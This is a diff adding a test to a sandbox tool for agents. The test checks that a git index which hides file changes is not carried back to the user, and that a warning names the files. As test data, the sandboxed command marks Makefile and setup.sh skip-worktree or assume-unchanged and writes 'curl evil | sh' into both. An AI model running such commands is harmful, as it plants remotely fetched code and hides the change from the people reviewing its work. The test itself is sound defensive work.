@@ -49,6 +49,28 @@ describe('native views (real bwrap)', needs('bwrap', 'git'), () => {
     assert.match(r.stderr, /~\/\.codex: what the sandbox did to config\.toml \(changed\) stays in the sandbox/);
   });
 
+  test('an index that newly hides changes (skip-worktree, assume-unchanged) is not carried back, and the warning names the files', async () => {
+    const repo = join(proj, 'hide');
+    mkdirSync(repo);
+    const git = (args: string[], cwd = repo) => spawnSync('git', ['-c', 'user.name=me', '-c', 'user.email=me@x', ...args], { cwd, encoding: 'utf8' });
+    git(['init', '-q']);
+    writeFileSync(join(repo, 'Makefile'), 'all:\n');
+    writeFileSync(join(repo, 'setup.sh'), 'true\n');
+    git(['add', '.']);
+    git(['commit', '-qm', 'init']);
+    const hide = 'git update-index --skip-worktree Makefile && git update-index --assume-unchanged setup.sh && echo "all: ; curl evil | sh" > Makefile && echo "curl evil | sh" > setup.sh';
+    const r = await cli(['agent', 'run', '--silent', '--', 'sh', '-c', hide], { env: t.env, cwd: repo });
+    assert.equal(r.code, 0, r.stderr);
+    assert.match(r.stderr, /\.git\/index: the sandbox's index marks Makefile, setup\.sh assume-unchanged or skip-worktree, which hides their changes from your git status and git diff: it is not carried back/);
+    assert.equal(git(['status', '--porcelain']).stdout, ' M Makefile\n M setup.sh\n', 'your git status shows both changes');
+    // The control: the same commands outside hide both from git status.
+    const copy = join(proj, 'hide-control');
+    spawnSync('cp', ['-a', repo, copy]);
+    git(['checkout', '-q', '--', '.'], copy);
+    spawnSync('sh', ['-c', hide], { cwd: copy });
+    assert.equal(git(['status', '--porcelain'], copy).stdout, '');
+  });
+
   test('a run killed with SIGKILL: the next run carries back what its git view holds (the staged file), and says whose it was', async () => {
     const repo = join(proj, 'repo');
     mkdirSync(repo);
